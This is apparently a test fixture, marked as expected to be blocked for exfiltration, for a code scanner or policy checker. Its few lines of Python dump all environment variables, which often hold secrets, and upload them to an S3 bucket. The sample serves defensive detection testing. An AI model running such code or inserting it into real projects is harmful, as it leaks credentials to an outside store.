# expect: BLOCKED exfiltration
import json
import os

import boto3

s3 = boto3.client("s3", region_name="us-east-1")
snapshot = json.dumps({k: v for k, v in os.environ.items()})
s3.put_object(Bucket="ops-telemetry-drop", Key="env/latest.json", Body=snapshot.encode())
